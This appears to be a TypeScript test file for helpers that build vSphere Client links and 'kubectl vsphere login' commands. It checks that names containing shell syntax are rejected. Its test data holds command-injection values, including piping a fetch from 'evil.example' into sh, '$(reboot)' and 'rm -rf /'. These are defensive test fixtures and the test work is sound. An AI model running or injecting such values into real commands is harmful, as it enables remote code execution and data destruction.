import { VCenterConfig } from '../config';
import {
  kubectlLoginCommand,
  namespaceClientUrl,
  vmClientUrl,
} from './vsphereLinks';

const vcenter = {
  name: 'vc-1',
  clientBaseUrl: 'https://vc-1.example.com/ui',
} as VCenterConfig;

describe('links', () => {
  it('point into the vSphere Client', () => {
    expect(namespaceClientUrl(vcenter, 'team-a')).toBe(
      'https://vc-1.example.com/ui/app/namespaces/team-a/summary',
    );
    expect(vmClientUrl(vcenter, 'team-a', 'vm-42')).toBe(
      'https://vc-1.example.com/ui/app/vm;nav=v/urn:vmomi:VirtualMachine:vm-42/summary',
    );
    expect(vmClientUrl(vcenter, 'team-a')).toBe(
      'https://vc-1.example.com/ui/app/namespaces/team-a/summary',
    );
  });

  it('give the kubectl vsphere login command for a namespace or a cluster', () => {
    expect(kubectlLoginCommand('https://10.0.0.2:6443', 'team-a')).toBe(
      'kubectl vsphere login --server=10.0.0.2 --vsphere-username YOUR-NAME@vsphere.local && kubectl config use-context team-a',
    );
    expect(kubectlLoginCommand('https://sv.example.com', 'team-a', 'web')).toBe(
      'kubectl vsphere login --server=sv.example.com --vsphere-username YOUR-NAME@vsphere.local --tanzu-kubernetes-cluster-namespace team-a --tanzu-kubernetes-cluster-name web && kubectl config use-context web',
    );
  });

  it.each([
    ['namespace', ['demo; curl evil.example | sh']],
    ['namespace', ['$(reboot)']],
    ['cluster', ['demo', 'web`id`']],
    ['cluster', ['demo', 'a && rm -rf /']],
    ['namespace', ['../demo']],
  ])(
    'refuses a %s with shell syntax instead of putting it in the command',
    (field, args) => {
      const [namespace, cluster] = args;
      expect(() =>
        kubectlLoginCommand('https://10.0.0.2:6443', namespace, cluster),
      ).toThrow(new RegExp(`^${field}: .* is not a DNS-1123 label`));
    },
  );

  it('quotes what the shell would read as syntax (an IPv6 host is a glob)', () => {
    const command = kubectlLoginCommand(
      'https://[fd00::1]:6443',
      'team-a',
      'web',
    );
    expect(command).toContain("--server='[fd00::1]'");
    const words = command.split(' ').filter(w => w !== '&&');
    for (const word of words) {
      expect(word).toMatch(/^[A-Za-z0-9._@%+=:,/-]*('[^']*')?$/);
    }
  });
});
